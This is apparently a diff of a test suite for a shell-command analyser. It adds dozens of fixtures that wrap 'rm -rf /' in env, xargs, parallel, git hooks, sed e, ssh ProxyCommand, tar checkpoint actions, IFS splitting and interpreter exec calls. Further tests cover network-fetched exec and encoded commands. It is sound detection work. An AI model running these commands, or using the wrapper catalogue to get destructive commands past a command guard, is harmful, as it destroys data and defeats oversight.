@@ -41,7 +41,7 @@ describe('quotes, escapes and expansions', () => {
   });
 
   it('tells one field from several', () => {
-    const [act] = acts('x="a b"; cmd "$x" $x');
+    const act = acts('x="a b"; cmd "$x" $x').find((each) => each.act === 'run');
     expect(act).toMatchObject({ invocation: { words: ['cmd', 'a b', 'a', 'b'] } });
   });
 });
@@ -68,6 +68,45 @@ describe('wrappers', () => {
     `python3 -c "import os; os.system('rm -rf /')"`,
     `git -c alias.x='!rm -rf /' x`,
     "PAGER='rm -rf /' man ls",
+    'env - rm -rf /',
+    "env -S 'PATH=/usr/bin' rm -rf /",
+    "env -S 'rm -rf' /",
+    "echo 'rm -rf /' | xargs -I{} bash -c {}",
+    "echo / | xargs --replace bash -c 'rm -rf {}'",
+    "echo / | xargs -i bash -c 'rm -rf {}'",
+    "parallel bash -c ::: 'rm -rf /'",
+    'parallel --results o rm -rf {} ::: /',
+    "parallel ::: 'rm -rf /'",
+    "git rebase -x 'rm -rf /' HEAD~1",
+    'git bisect run rm -rf /',
+    "git submodule foreach --recursive 'rm -rf /'",
+    "git config --global alias.x '!rm -rf /'",
+    "git clone 'ext::rm -rf /' x",
+    "sed '1e rm -rf /' f",
+    String.raw`sed 's/.*/rm -rf \//e' f`,
+    "echo 'rm -rf /' | sed e",
+    "ssh -o ProxyCommand='rm -rf /' h",
+    'ssh h -t rm -rf /',
+    "man -P 'rm -rf /' ls",
+    'setpriv --reuid 0 rm -rf /',
+    "source /dev/stdin <<< 'rm -rf /'",
+    'IFS=,; c=rm,-rf,/; $c',
+    "${0##*/} -c 'rm -rf /'",
+    "$SHELL -c 'rm -rf /'",
+    '$MAYBE rm -rf /',
+    `perl -e 'exec "rm","-rf","/"'`,
+    `lua -e 'os.execute("rm -rf /")'`,
+    "expect -c 'spawn rm -rf /'",
+    "pwsh -Command 'Remove-Item -Recurse -Force /'",
+    `node -e "require('child_process').execFileSync('rm',['-rf','/'])"`,
+    `awk 'BEGIN { "rm -rf /" | getline }'`,
+    "flock /tmp/x -c 'rm -rf /'",
+    "gdb -batch -ex 'shell rm -rf /'",
+    String.raw`psql -c '\! rm -rf /'`,
+    "tar cf a --checkpoint-action=exec='rm -rf /' b",
+    'kubectl exec p -- rm -rf /',
+    "vagrant ssh -c 'rm -rf /'",
+    'poetry run rm -rf /',
   ])('%s', (line) => {
     expect(programs(line)).toContain('rm -rf /');
   });
@@ -188,6 +227,33 @@ describe('the flow of a line', () => {
       'curl -o f u; sh f',
     ])
       expect(acts(line)).toContainEqual(expect.objectContaining({ act: 'blind-script', from: 'network' }));
+  });
+
+  it.each(['generate | sh', 'eval "$(generate)"', 'cat jobs | xargs -I{} sh -c {}', 'parallel < jobs'])(
+    'sees a script that only another program knows: %s',
+    (line) => {
+      expect(acts(line)).toContainEqual(expect.objectContaining({ act: 'blind-script', from: 'program' }));
+    },
+  );
+
+  it.each(['eval "$(ssh-agent -s)"', 'source <(kubectl completion bash)', 'cat install.sh | sh', 'bash -c "$CMD"'])(
+    'takes what programs print for a shell to run, and scripts of the user, as they are: %s',
+    (line) => {
+      expect(acts(line)).not.toContainEqual(expect.objectContaining({ act: 'blind-script' }));
+    },
+  );
+
+  it('follows the folder that a program is started in', () => {
+    const last = acts('env -C / rm -rf etc').at(-1);
+    expect(last).toMatchObject({ act: 'run', invocation: { words: ['rm', '-rf', 'etc'], cwd: '/' } });
+  });
+
+  it.each([
+    `python3 -c "import base64; exec(base64.b64decode('eA=='))"`,
+    `python3 -c "import urllib.request as u; exec(u.urlopen('http://x').read())"`,
+    'pwsh -EncodedCommand eA==',
+  ])('sees code that runs what nobody can read: %s', (line) => {
+    expect(acts(line)).toContainEqual(expect.objectContaining({ act: 'blind-script' }));
   });
 
   it('sees a script that cannot be read', () => {
